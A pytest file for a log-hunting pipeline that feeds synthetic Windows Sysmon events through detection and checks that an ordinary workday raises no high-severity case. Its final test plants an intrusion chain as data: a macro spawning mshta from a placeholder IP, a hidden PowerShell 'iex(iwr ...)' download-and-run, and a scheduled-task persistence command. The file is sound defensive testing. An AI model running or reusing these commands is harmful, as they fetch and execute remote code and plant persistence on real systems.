"""A working day on Windows gives no high case, and few that anyone has to look at."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson
import pytest
import yaml

from perilune import pipeline
from perilune.model.rules import Level

DAY = yaml.safe_load(Path(__file__).with_name("windows_work.yml").read_text(encoding="utf-8"))
BEGIN = datetime(2026, 3, 2, 7, 30, tzinfo=UTC)


def sysmon(number: int, who: str, start: list[str]) -> dict[str, object]:
    parent, parent_line, image, line = start
    moment = BEGIN + timedelta(minutes=7 * number)
    user = "NT AUTHORITY\\SYSTEM" if who == "s" else "CORP\\anna"
    return {"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1, "EventRecordID": number,
            "TimeCreated": {"#attributes": {"SystemTime": moment.isoformat().replace("+00:00", "Z")}},
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws01.corp.example",
        },
        "EventData": {
            "UtcTime": f"{moment:%Y-%m-%d %H:%M:%S}.000", "ProcessGuid": f"747F3D96-0001-5F93-0000-{number:012X}",
            "ProcessId": 4000 + number, "Image": image, "CommandLine": line, "User": user,
            "OriginalFileName": image.rsplit("\\", 1)[-1], "IntegrityLevel": "System" if who == "s" else "Medium",
            "ParentProcessGuid": f"747F3D96-0002-5F93-0000-{number:012X}", "ParentProcessId": 900 + number,
            "ParentImage": parent, "ParentCommandLine": parent_line,
        },
    }}  # fmt: skip


@pytest.fixture(scope="module")
def day(tmp_path_factory: pytest.TempPathFactory) -> pipeline.Hunt:
    starts = [(part["who"], start) for part in DAY for start in part["starts"]]
    path = tmp_path_factory.mktemp("day") / "sysmon.jsonl"
    path.write_bytes(b"\n".join(orjson.dumps(sysmon(n, *one)) for n, one in enumerate(starts, 1)) + b"\n")
    found = pipeline.hunt([path])
    assert sum(sum(source.rows.values()) for source in found.sources) == len(starts)
    return found


def test_no_high_case(day: pipeline.Hunt) -> None:
    loud = [(f.score, f.rule_title, f.row.get("ProcessCommandLine")) for f in day.findings if f.level >= Level.HIGH]
    assert loud == []
    assert [case.title for case in day.cases if case.level >= Level.HIGH] == []


def test_few_cases_to_look_at(day: pipeline.Hunt) -> None:
    assert len([case for case in day.cases if case.level is Level.MEDIUM]) <= 3


def test_an_attack_among_them_is_first(tmp_path: Path) -> None:
    """The same day with an intrusion's three steps in it: the quiet above is no accident of a log nobody reads."""
    steps = [
        [r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WINWORD.EXE invoice.docm",
         r"C:\Windows\System32\cmd.exe", r"cmd.exe /c start /b mshta http://198.51.100.7/a.hta"],
        [r"C:\Windows\System32\mshta.exe", "mshta http://198.51.100.7/a.hta",
         r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
         "powershell -w hidden -ep bypass -c iex(iwr http://198.51.100.7/b.ps1 -UseBasicParsing)"],
        [r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -w hidden",
         r"C:\Windows\System32\schtasks.exe",
         r'schtasks /create /tn Upd /tr "powershell -w hidden -File C:\Users\Public\u.ps1" /sc minute'],
    ]  # fmt: skip
    starts = [(part["who"], start) for part in DAY for start in part["starts"]]
    starts[40:40] = [("u", step) for step in steps]
    path = tmp_path / "sysmon.jsonl"
    path.write_bytes(b"\n".join(orjson.dumps(sysmon(n, *one)) for n, one in enumerate(starts, 1)) + b"\n")
    high = [case for case in pipeline.hunt([path]).cases if case.level >= Level.HIGH]
    lines = {str(f.row.get("ProcessCommandLine")) for case in high for f in case.findings}
    assert {step[3] for step in steps} <= lines
